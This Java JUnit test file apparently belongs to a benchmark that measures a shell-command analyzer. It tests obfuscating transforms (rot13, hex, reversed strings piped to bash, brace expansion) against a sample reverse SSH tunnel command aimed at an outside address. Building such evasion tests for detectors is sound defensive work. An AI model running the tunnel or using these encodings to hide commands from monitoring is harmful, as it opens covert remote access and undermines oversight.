package dev.offscript.benchmarks.accuracy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.offscript.commands.CommandAnalyzer;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

class TransformsTest {

  private static final String TUNNEL = "ssh -fN -R 7022:localhost:22 svc@203.0.113.9";

  private static String rewritten(String name, String command) {
    return Stream.concat(Transforms.all().stream(), Mentions.all().stream())
        .filter(transform -> transform.name().equals(name))
        .findFirst()
        .orElseThrow()
        .apply(command, 42)
        .orElse("does not suit");
  }

  @Test
  void each_has_a_name_of_its_own() {
    assertThat(Stream.concat(Transforms.all().stream(), Mentions.all().stream()))
        .extracting(Transform::name)
        .doesNotHaveDuplicates();
  }

  @Test
  void a_seed_decides_every_choice() {
    for (Transform transform : Transforms.all()) {
      assertThat(transform.apply(TUNNEL, 7)).isEqualTo(transform.apply(TUNNEL, 7));
    }
  }

  @Test
  void they_write_what_their_names_say() {
    assertThat(rewritten("quotes inside", TUNNEL)).startsWith("s\"sh\" -fN");
    assertThat(rewritten("reversed", "ls -la")).isEqualTo("echo 'al- sl' | rev | bash");
    assertThat(rewritten("rot13 by tr", "ls -la"))
        .isEqualTo("echo 'yf -yn' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash");
    assertThat(rewritten("brace list", "ls -la")).isEqualTo("{ls,-la}");
    assertThat(rewritten("hex by xxd", "ls")).isEqualTo("echo 6c73 | xxd -r -p | bash");
    assertThat(rewritten("bash -c", "echo 'a b'")).isEqualTo("bash -c 'echo '\\''a b'\\'''");
    assertThat(rewritten("copied", "./tool -x").split(" "))
        .startsWith("cp", "./tool")
        .endsWith("-x");
  }

  /** What a rewritten command does is what a shell makes of it, not what its name promises. */
  @Test
  void a_shell_that_puts_the_words_together_runs_the_same() throws Exception {
    assumeTrue(Files.isExecutable(Path.of("/bin/bash")));
    for (Transform transform : Transforms.all()) {
      if (transform.group().equals("spelt")) {
        String text = transform.apply("printf %s-%s alpha beta", 42).orElseThrow();
        assertThat(run(text)).as(text).isEqualTo("alpha-beta");
      }
    }
  }

  private static String run(String text) throws IOException {
    Process bash =
        new ProcessBuilder("/bin/bash", "--norc", "-c", text).redirectErrorStream(true).start();
    bash.getOutputStream().close();
    try (InputStream out = bash.getInputStream()) {
      return new String(out.readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  @Test
  void what_they_cannot_write_they_leave() {
    assertThat(rewritten("reversed", "a\nb")).isEqualTo("does not suit");
    assertThat(rewritten("brace list", "echo 'a b'")).isEqualTo("does not suit");
    assertThat(rewritten("copied", "sudo -i ssh h")).isEqualTo("does not suit");
  }

  @Test
  void an_act_keeps_its_label_and_a_mention_loses_it() {
    Sample act = Sample.of(Technique.TUNNEL_REVERSE, TUNNEL);
    List<Sample> rewritten = Measurement.rewritten(List.of(act), Transforms.all(), 42);
    List<Sample> mentioned = Measurement.mentioned(List.of(act), Mentions.all(), 42);

    assertThat(rewritten).hasSize(Transforms.all().size()).allMatch(one -> one.kind() == Kind.ACT);
    assertThat(mentioned)
        .hasSize(Mentions.all().size())
        .allMatch(one -> one.kind() == Kind.MENTION);
    assertThat(new Tally(new Measurement(CommandAnalyzer.shipped()).of(mentioned)).falsePositives())
        .isEqualTo(new Rate(0, mentioned.size()));
  }
}
